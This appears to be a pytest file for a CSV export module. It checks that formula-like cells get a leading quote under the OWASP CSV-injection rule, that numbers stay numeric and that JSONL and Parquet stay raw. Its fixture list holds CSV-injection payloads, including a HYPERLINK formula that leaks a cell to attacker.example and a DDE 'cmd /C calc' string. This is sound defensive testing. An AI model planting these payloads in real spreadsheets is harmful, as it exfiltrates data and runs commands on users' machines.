"""CSV exports are safe to open in a spreadsheet by default (OWASP CSV injection).

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a
line feed gets a leading ``'``, and every text cell is quoted, so a separator inside a
cell cannot start a new cell in a locale that splits on it. Numbers (negative
similarities too) stay numbers. ``raw_cells`` keeps every value as it is. JSONL and
Parquet are never escaped.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest

from shadoweval.export import EXPORT_COLUMNS
from shadoweval.export.rows import rows_frame
from shadoweval.export.writer import (
    FORMULA_PREFIXES,
    csv_bytes,
    escape_formula,
    jsonl_bytes,
    parquet_bytes,
)
from tests.export.readback import read_csv

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"click")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "-1",  # a text that looks like a number is still text: escaped
]
SAFE = ["plain answer", " =1 after a blank", "a;=HYPERLINK(x)", "b\t=1", "'quoted", "", "NA"]
T0 = datetime(2025, 3, 9, 2, 0, tzinfo=UTC)


def row(i: int, text: str) -> dict[str, Any]:
    values: dict[str, Any] = {c: "" for c in EXPORT_COLUMNS}
    values.update(
        exchange_id=f"ex-{i:03d}",
        run_id="run-1",
        task_type="chat",
        captured_at=T0,
        similarity=-0.5 if i % 2 else 0.25,
        noise_similarity=None if i % 3 == 0 else -0.125,
        request="[]",
        baseline_text=text,
        candidate_text=f"candidate {i}",
        baseline_tool_calls="[]",
        candidate_tool_calls="[]",
        label_note=text,
    )
    return values


@pytest.fixture
def frame() -> pd.DataFrame:
    return rows_frame([row(i, t) for i, t in enumerate(FORMULAS + SAFE)])


def test_escape_formula_follows_the_owasp_rule() -> None:
    assert FORMULA_PREFIXES == ("=", "+", "-", "@", "\t", "\r", "\n")
    for text in FORMULAS:
        assert escape_formula(text) == "'" + text
    for text in SAFE:
        assert escape_formula(text) == text


def test_formula_cells_get_a_leading_quote_numbers_stay_numbers(frame: pd.DataFrame) -> None:
    data = csv_bytes(frame)
    back = read_csv(data)
    assert list(back["baseline_text"]) == ["'" + t for t in FORMULAS] + SAFE
    assert list(back["label_note"]) == ["'" + t for t in FORMULAS] + SAFE
    # Negative similarities are numbers in the file (unquoted, unescaped) and read back.
    assert back["similarity"].dtype == "float64"
    assert list(back["similarity"]) == list(frame["similarity"])
    assert back["noise_similarity"].isna().tolist() == frame["noise_similarity"].isna().tolist()
    lines = data.decode().split("\n")
    assert lines[0] == ",".join(EXPORT_COLUMNS)
    assert ',-0.5,-0.125,"",' in lines[2]  # similarity, noise similarity, flags
    # No cell of the file starts like a formula, read with the real separator …
    for record in csv.reader(io.StringIO(data.decode(), newline="")):
        for cell in record:
            assert not cell.startswith(FORMULA_PREFIXES) or _is_number(cell), cell


def test_every_text_cell_is_quoted(frame: pd.DataFrame) -> None:
    """A separator inside a cell (``;`` for a spreadsheet in a locale that splits on it)
    stays inside the quotes, so it cannot start a cell with a formula (OWASP: wrap each
    cell in double quotes). The csv reader in QUOTE_NONNUMERIC mode turns every unquoted
    field into a float: it fails on any unquoted text cell."""
    for data in (csv_bytes(frame), csv_bytes(frame, raw_cells=True)):
        lines = io.StringIO(data.decode().split("\n", 1)[1], newline="")
        records = list(csv.reader(lines, quoting=csv.QUOTE_NONNUMERIC))
        assert len(records) == len(frame)
        assert [r[4] for r in records] == list(frame["similarity"])  # numbers, unquoted
    # Not vacuous: pandas' minimal quoting leaves "a;=HYPERLINK(x)" bare.
    assert "\na;=HYPERLINK(x)," in frame[["baseline_text", "run_id"]].to_csv(index=False)


def test_raw_cells_keeps_every_value(frame: pd.DataFrame) -> None:
    back = read_csv(csv_bytes(frame, raw_cells=True))
    assert list(back["baseline_text"]) == FORMULAS + SAFE  # a bare "\r" too: it is quoted
    assert list(back["label_note"]) == FORMULAS + SAFE
    assert list(back["similarity"]) == list(frame["similarity"])


def test_jsonl_and_parquet_are_never_escaped(frame: pd.DataFrame) -> None:
    lines = jsonl_bytes(frame).decode().splitlines()
    assert [json.loads(line)["baseline_text"] for line in lines] == FORMULAS + SAFE
    table = pq.read_table(io.BytesIO(parquet_bytes(frame)))
    assert table.column("baseline_text").to_pylist() == FORMULAS + SAFE


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
